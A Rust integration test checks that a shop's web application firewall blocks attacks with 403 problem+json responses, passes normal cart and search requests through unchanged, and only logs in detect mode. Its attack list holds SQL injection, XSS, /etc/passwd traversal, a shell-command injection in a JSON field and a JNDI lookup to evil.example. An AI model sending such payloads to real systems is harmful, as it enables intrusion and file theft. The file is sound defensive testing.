//! The WAF in the real binary: attacks are answered 403 problem+json and never reach a core;
//! shoppers' requests, bodies included, reach it byte for byte; detect mode only logs.

use http::StatusCode;

use crate::helpers::{Echo, EchoCore, EdgeConfig, TestDir, TestEdge};

const CART_ITEM: &str = r#"{"product_id":"0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60","quantity":2,"note":"Select the larger size; it runs small. I'd buy again & again :) <3"}"#;

/// The edge's log once it contains `needle` (lines are flushed in batches), or as it is after 2 s.
async fn log_with(edge: &TestEdge, needle: &str) -> String {
    for _ in 0..40 {
        let log = edge.log_text();
        if log.contains(needle) {
            return log;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    edge.log_text()
}

#[tokio::test]
async fn attacks_are_blocked_before_the_core_and_shoppers_pass() {
    let core = EchoCore::start("core").await;
    let dir = TestDir::new();
    let edge = TestEdge::start(EdgeConfig::in_front_of(&core), dir.path()).await;

    let attacks = [
        edge.client
            .get(edge.url("/search?q=1%27%20OR%20%271%27%3D%271")),
        edge.client
            .get(edge.url("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")),
        edge.client
            .get(edge.url("/products/..%2f..%2fetc%2fpasswd")),
        edge.client
            .post(edge.url("/cart/items"))
            .header("content-type", "application/json")
            .body(r#"{"product_id":"x; cat /etc/passwd","quantity":1}"#),
        edge.client
            .get(edge.url("/products"))
            .header("x-api-version", "${jndi:ldap://evil.example/a}"),
    ];
    for attack in attacks {
        let response = attack.send().await.unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert_eq!(
            response.headers()["content-type"],
            "application/problem+json"
        );
        let request_id = response.headers()["x-request-id"]
            .to_str()
            .unwrap()
            .to_owned();
        let body: serde_json::Value = response.json().await.unwrap();
        assert_eq!(body["type"], "https://meridian.dev/problems/blocked");
        assert_eq!(body["request_id"], request_id.as_str());
    }
    assert_eq!(core.hits(), 0, "a blocked request reached the core");
    let log = log_with(&edge, "942100").await;
    assert!(
        log.contains("942100"),
        "blocks are logged with their rule ids: {log}"
    );

    let response = edge
        .client
        .post(edge.url("/cart/items"))
        .header("content-type", "application/json")
        .body(CART_ITEM)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let echo: Echo = response.json().await.unwrap();
    assert_eq!(
        echo.body, CART_ITEM,
        "the inspected body reaches the core unchanged"
    );
    let response = edge
        .client
        .get(edge.url("/search?q=men%27s+running+shoes&sort=price_asc"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(core.hits(), 2);
}

#[tokio::test]
async fn oversized_bodies_are_refused_and_detect_mode_forwards() {
    let core = EchoCore::start("core").await;
    let dir = TestDir::new();
    let config = EdgeConfig::in_front_of(&core).with_env("MERIDIAN_EDGE_WAF", "detect");
    let edge = TestEdge::start(config, dir.path()).await;

    let big = format!(r#"{{"body":"{}"}}"#, "a".repeat(70 * 1024));
    let response = edge
        .client
        .post(edge.url("/cart/items"))
        .header("content-type", "application/json")
        .body(big)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(core.hits(), 0);

    let response = edge
        .client
        .get(edge.url("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK, "detect mode forwards");
    assert_eq!(core.hits(), 1);
    assert!(
        log_with(&edge, "detected")
            .await
            .contains("action=\"detected\"")
    );
}
